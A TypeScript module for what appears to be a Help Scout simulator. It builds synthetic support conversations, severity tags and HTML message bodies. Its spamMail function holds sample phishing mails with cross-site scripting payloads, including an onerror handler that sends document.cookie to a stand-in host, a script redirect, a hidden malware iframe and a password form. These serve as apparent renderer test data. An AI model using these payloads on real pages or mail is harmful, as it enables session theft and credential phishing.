/**
 * What the Help Scout simulator's customers write: the Zendesk simulator's ticket templates (the same API product,
 * the same error strings), rendered as Help Scout stores messages (HTML bodies), plus a few spam mails, and the
 * severity tags (p1-p4, in whatever case the team typed them).
 */

import { templateById, type ComposedTicket } from '../zendesk/catalog.ts';
import type { Stack } from '../zendesk/names.ts';
import { createRng, type Rng } from '../zendesk/prng.ts';
import { escapeHtml, p, toMailHtml } from '../zendesk/text.ts';
import type { CustomerRecord, OrganizationRecord } from './types.ts';

export const MINUTE_MS = 60_000;
export const HOUR_MS = 3_600_000;
export const DAY_MS = 86_400_000;

/** The longest preview Help Scout shows of the latest message. */
const PREVIEW_LENGTH = 185;

/** Templates whose conversations land in the Billing mailbox when there is one. */
export const BILLING_TEMPLATES: ReadonlySet<string> = new Set(['billing_invoice', 'credits_exhausted']);

export const SEVERITIES = ['p1', 'p2', 'p3', 'p4'] as const;
export type Severity = (typeof SEVERITIES)[number];

/** Composes a conversation's texts from its own seed: the same inputs always give the same texts. */
export function composeConversation(
  threadSeed: number,
  templateId: string,
  org: OrganizationRecord | undefined,
  customer: CustomerRecord,
  createdAt: number,
): { composed: ComposedTicket; rng: Rng } {
  const rng = createRng(threadSeed);
  const composed = templateById(templateId).compose({
    rng,
    company: org?.name ?? `${customer.lastName} Consulting`,
    firstName: customer.firstName,
    fullName: `${customer.firstName} ${customer.lastName}`,
    title: customer.jobTitle,
    plan: org?.plan ?? 'free',
    apiKeyPrefix: org?.apiKeyPrefix ?? 'sk_live_0000',
    customerId: org?.customerId ?? 'cus_unknown',
    stack: customer.stack as Stack,
    at: createdAt - ((customer.id + createdAt) % 40) * MINUTE_MS - 2 * MINUTE_MS,
  });
  return { composed, rng };
}

/** The severity a template suggests (from its priority weights), or null for an untagged conversation. */
export function pickSeverity(rng: Rng, templateId: string): Severity | null {
  const choice = rng.weighted(templateById(templateId).priority);
  switch (choice) {
    case 'urgent':
      return 'p1';
    case 'high':
      return 'p2';
    case 'normal':
      return 'p3';
    case 'low':
      return 'p4';
    default:
      return null;
  }
}

/** Severity tags come in whatever case the agent typed: "P1" as often as "p1". */
export function severityTag(rng: Rng, severity: Severity): string {
  return rng.chance(0.5) ? severity.toUpperCase() : severity;
}

/** The tags a conversation carries: the template's (its p1 replaced by the chosen severity) and the severity. */
export function conversationTags(rng: Rng, composed: ComposedTicket, severity: Severity | null): string[] {
  const tags = composed.tags.filter((t) => t !== 'p1');
  if (severity) tags.push(severityTag(rng, severity));
  return [...new Set(tags)];
}

/** Help Scout's editor HTML for a plain-text message: one paragraph per blank-line-separated block. */
export function htmlFromText(text: string): string {
  return toMailHtml(text.split(/\n{2,}/).map((para) => p(para)));
}

export function previewOf(text: string): string {
  const flat = text.replace(/\s+/g, ' ').trim();
  return flat.length > PREVIEW_LENGTH ? flat.slice(0, PREVIEW_LENGTH) : flat;
}

export function signature(firstName: string): string {
  return `Best,\n${firstName}\nExample Data Support`;
}

export interface SpamMail {
  subject: string;
  html: string;
  text: string;
}

/** Spam that reaches the support mailbox; some of it carries the HTML a renderer must never run. */
export function spamMail(rng: Rng, to: string): SpamMail {
  const id = rng.hex(10);
  const mails: SpamMail[] = [
    {
      subject: 'Rank #1 on Google in 7 days - guaranteed',
      html: `<div><p>Dear website owner,</p><p>We noticed ${escapeHtml(to)} is not on the first page. Our white-hat team guarantees #1 rankings in 7 days.</p><img src="https://track.seo-blast.test/o/${id}.gif" width="1" height="1"></div>`,
      text: `Dear website owner, We noticed ${to} is not on the first page. Our white-hat team guarantees #1 rankings in 7 days.`,
    },
    {
      subject: 'Action required: your mailbox storage is full',
      html: `<div><p>Your mailbox has exceeded its storage limit. <a href="javascript:alert(document.domain)">Verify your account</a> within 24 hours to avoid suspension.</p><img src=x onerror="fetch('https://collect.phish.test/?c='+document.cookie)"></div>`,
      text: 'Your mailbox has exceeded its storage limit. Verify your account within 24 hours to avoid suspension.',
    },
    {
      subject: 'Partnership opportunity (crypto payments)',
      html: `<div><p>Hello, we would like to offer a partnership: accept crypto payments with 0% fees.</p><script>document.location='https://scam.test/r/${id}'</script><p>Reply YES to get started.</p></div>`,
      text: 'Hello, we would like to offer a partnership: accept crypto payments with 0% fees. Reply YES to get started.',
    },
    {
      subject: `Re: Invoice #${rng.int(10000, 99999)} overdue`,
      html: `<div><p>Please find the overdue invoice attached.</p><iframe src="https://malware.test/doc/${id}" width="0" height="0"></iframe><form action="https://phish.test/collect" method="post"><input name="password" placeholder="Enter your password to view"></form></div>`,
      text: 'Please find the overdue invoice attached.',
    },
  ];
  return rng.pick(mails);
}
